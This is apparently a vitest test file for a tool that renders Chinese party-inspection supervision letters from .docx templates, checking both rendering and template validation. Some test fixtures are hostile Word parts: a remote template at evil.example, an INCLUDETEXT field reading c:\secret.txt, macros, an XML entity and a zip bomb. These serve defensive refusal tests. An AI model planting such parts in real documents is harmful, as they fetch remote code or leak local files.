import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { docxBytes } from '../docx-bytes.ts';
import { zipBytes } from '../zip-write.ts';
import { PAPER_KINDS, paperName, type Paper, type PaperData, type PaperKind } from './paper.ts';
import { renderPaper } from './render.ts';
import { shippedTemplate } from './shipped.ts';
import { checkPlaceholders } from './template-check.ts';
import { exportTemplate, loadTemplate, ownTemplates, TemplateStore } from './templates.ts';
import { MADE_UP, madeUpPaper } from './made-up-paper.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'huitoukan-letters-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

// A title that would be markup if it were not printed as it is.
const TITLE = `${MADE_UP.issue?.title ?? ''} <b>&`;
const ISSUE = MADE_UP.issue === null ? null : { ...MADE_UP.issue, title: TITLE };
const paper = (kind: PaperKind, data: Partial<PaperData> = {}): Paper => madeUpPaper(kind, { issue: ISSUE, ...data });
const textOf = async (bytes: Buffer): Promise<string> => {
  const mammoth = await import('mammoth');
  return (await mammoth.default.extractRawText({ buffer: bytes })).value.replace(/\n{2,}/g, '\n').trim();
};
const printed = async (kind: PaperKind, data: Partial<PaperData> = {}): Promise<string> => textOf(await renderPaper(paper(kind, data), { file: kind, parts: await shippedTemplate(kind) }));

describe('the shipped papers', () => {
  it.each(PAPER_KINDS)('%s prints everything that there is, leaves no placeholder, and is the same bytes again', async (kind) => {
    const template = { file: kind, parts: await shippedTemplate(kind) };
    checkPlaceholders(template.parts, kind);
    const bytes = await renderPaper(paper(kind), template);
    const text = await textOf(bytes);
    expect(text).not.toMatch(/\{\{|\}\}|undefined|null/);
    for (const words of [paperName(kind).zh, '青巡办督办函〔2026〕第3号', TITLE, '2026年5月6日']) expect(text).toContain(words);
    expect((await renderPaper(paper(kind), { file: kind, parts: await shippedTemplate(kind) })).equals(bytes)).toBe(true);
  });

  it('a letter reads as one', async () => {
    expect(await printed('supervision-letter')).toMatchInlineSnapshot(`
      "中共青溪县委巡察工作领导小组办公室
      督办函
      青巡办督办函〔2026〕第3号
      镇党委书记（何书桓）、镇党委副书记（乔一帆）：
      县委第二巡察组于2026年3月2日向中共白石镇委员会反馈了意见。其中第8号问题“农村道路养护责任不落实，通村路段坑洼失修 <b>&”，责任领导镇党委副书记（乔一帆），责任人江小满。
      该事项应于2026年4月30日前完成整改，截至2026年5月6日已逾期6天。
      措施1：修补坑洼路段三公里，明确养护人员（江小满，2026年4月20日前，未完成）
      措施2：制定村道养护办法并公示（白露，2026年4月28日前，已完成）
      现予督办。请高度重视，立即组织办理，收到本函后签收，并将办理情况、未能按期办理的原因和下一步打算书面反馈。逾期仍未办理的，将按规定逐级升级督办。
      县委巡察办督查室
      2026年5月6日
      抄送：县委分管领导（严冬）"
    `);
  });

  it('what there is nothing to say of is left out: copies, red head, overdue days, the issue of a letter about the round', async () => {
    const text = await printed('supervision-letter', { redHead: null, copies: null, overdueDays: null, issue: null, measures: [] });
    expect(text).not.toMatch(/抄送|领导小组办公室|逾期6天|其中第|措施/);
    expect(text).toContain('该事项应于2026年4月30日前完成整改。');
  });
});

/** The shipped letter with other words in its body. */
const changed = async (name: string, change: (xml: string) => string, more: Readonly<Record<string, string>> = {}): Promise<string> => {
  const parts = new Map(await shippedTemplate('reminder'));
  parts.set('word/document.xml', Buffer.from(change(Buffer.from(parts.get('word/document.xml') ?? []).toString('utf8'))));
  for (const [part, text] of Object.entries(more)) parts.set(part, Buffer.from(text));
  const file = join(folder, name);
  await writeFile(file, await docxBytes(parts, { title: 't', author: 'a', day: '2026-01-01' }));
  return file;
};
const refusalOf = async (file: string): Promise<{ code: string; zh: string; en: string; where: Record<string, unknown> }> => {
  try {
    await loadTemplate(file);
  } catch (error) {
    return error as { code: string; zh: string; en: string; where: Record<string, unknown> };
  }
  return expect.fail('the template was taken');
};

describe('a template of one’s own', () => {
  it('begins from a shipped one, and goes in its place by its name', async () => {
    const own = join(folder, 'own');
    await import('node:fs/promises').then(({ mkdir }) => mkdir(own));
    await exportTemplate('reminder', join(own, 'reminder.docx'));
    expect([...(await ownTemplates(own)).keys()]).toEqual(['reminder']);
    const template = await new TemplateStore(own).of('reminder');
    expect(template.file).toBe(join(own, 'reminder.docx'));
    expect(await textOf(await renderPaper(paper('reminder'), template))).toBe(await printed('reminder'));
    await writeFile(join(own, 'letter.docx'), '');
    await expect(ownTemplates(own)).rejects.toMatchObject({ code: 'TEMPLATE_UNKNOWN' });
  });

  it('with an unknown placeholder is refused by name and paragraph, in both languages', async () => {
    const { code, zh, en, where } = await refusalOf(await changed('unknown.docx', (xml) => xml.replace('{{office}}', '{{bureau}}')));
    expect([code, where['placeholder'], where['paragraph']]).toEqual(['TEMPLATE_INVALID', 'bureau', expect.any(Number)]);
    expect(zh).toMatch(/正文第\d+段“\{\{bureau\}\}”：没有占位符“bureau”/);
    expect(en).toContain('there is no placeholder "bureau"');
  });

  it.each([
    ['a list that is never closed', (xml: string) => xml.replace('{{/measures}}', ''), 'measures', /没有结束/],
    ['a list closed by another name', (xml: string) => xml.replace('{{/measures}}', '{{/evidence}}'), 'evidence', /不配对/],
    ['an end without a beginning', (xml: string) => xml.replace('{{#what}}', ''), 'what', /没有对应/],
    ['a brace too few', (xml: string) => xml.replace('{{to}}：', '{{to：'), '{{to：', /没有写完整/],
    ['a group printed as a text', (xml: string) => xml.replace('{{office}}', '{{round}}'), 'round', /是一组内容/],
    ['a part of a list outside of it', (xml: string) => xml.replace('{{office}}', '{{done}}'), 'done', /没有占位符/],
  ])('with %s is refused', async (name, change, placeholder, words) => {
    const { code, zh, where } = await refusalOf(await changed(`${name.replaceAll(' ', '-')}.docx`, change));
    expect([code, where['placeholder']]).toEqual(['TEMPLATE_INVALID', placeholder]);
    expect(zh).toMatch(words);
  });

  it.each([
    ['macros', { 'word/vbaProject.bin': 'x' }, (xml: string) => xml],
    ['an embedded file', { 'word/embeddings/oleObject1.xlsx': 'x' }, (xml: string) => xml],
    ['a template fetched from elsewhere', { 'word/_rels/settings.xml.rels': '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>' }, (xml: string) => xml],
    ['a field that fetches', {}, (xml: string) => xml.replace('<w:body>', '<w:body><w:p><w:r><w:instrText>INCLUDETEXT "c:\\\\secret.txt"</w:instrText></w:r></w:p>')],
    ['an entity', {}, (xml: string) => xml.replace(/^<\?xml[^>]*\?>/, '$&<!DOCTYPE w [<!ENTITY a "b">]>')],
  ])('with %s is refused as hostile', async (name, parts, change) => {
    expect(await refusalOf(await changed(`${name.replaceAll(' ', '-')}.docx`, change, parts as unknown as Record<string, string>))).toMatchObject({ code: 'TEMPLATE_HOSTILE', where: { place: expect.any(String) } });
  });

  it('a link that a reader may follow by hand is none', async () => {
    const file = await changed('link.docx', (xml) => xml, { 'word/_rels/other.xml.rels': '<Relationships><Relationship Id="r1" Type="http://x/relationships/hyperlink" Target="https://example.com" TargetMode="External"/></Relationships>' });
    await expect(loadTemplate(file)).resolves.toMatchObject({ file });
  });

  it('that is no .docx is refused, and so is an archive that unpacks to too much', async () => {
    const file = join(folder, 'none.docx');
    await writeFile(file, 'no zip');
    expect(await refusalOf(file)).toMatchObject({ code: 'TEMPLATE_NOT_DOCX' });
    await writeFile(file, await zipBytes([{ name: 'a.txt', bytes: Buffer.from('x') }]));
    expect(await refusalOf(file)).toMatchObject({ code: 'TEMPLATE_NOT_DOCX' });
    await writeFile(file, await zipBytes([{ name: 'word/document.xml', bytes: Buffer.alloc(9 * 1024 * 1024) }]));
    expect(await refusalOf(file)).toMatchObject({ code: 'IMPORT_ZIP_BOMB' });
  });
});
